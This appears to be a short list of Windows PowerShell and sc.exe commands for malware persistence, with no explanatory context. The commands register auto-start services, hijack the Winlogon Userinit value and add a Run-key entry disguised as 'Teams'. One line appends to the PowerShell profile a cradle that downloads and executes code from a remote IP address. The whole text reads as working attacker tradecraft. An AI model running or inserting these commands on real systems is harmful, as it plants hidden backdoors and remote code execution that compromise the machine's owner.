New-Service -Name 'WinHelperSvc' -BinaryPathName 'C:\ProgramData\helper.exe' -StartupType Automatic
sc.exe create UpdaterSvc binPath= "C:\ProgramData\upd.exe" start= auto
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name 'Userinit' -Value 'C:\Windows\system32\userinit.exe,C:\ProgramData\u.exe'
Add-Content -Path $PROFILE -Value 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.3/p")'
$run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
New-ItemProperty -Path $run -Name 'Teams' -Value 'C:\Users\Public\t.exe' -Force
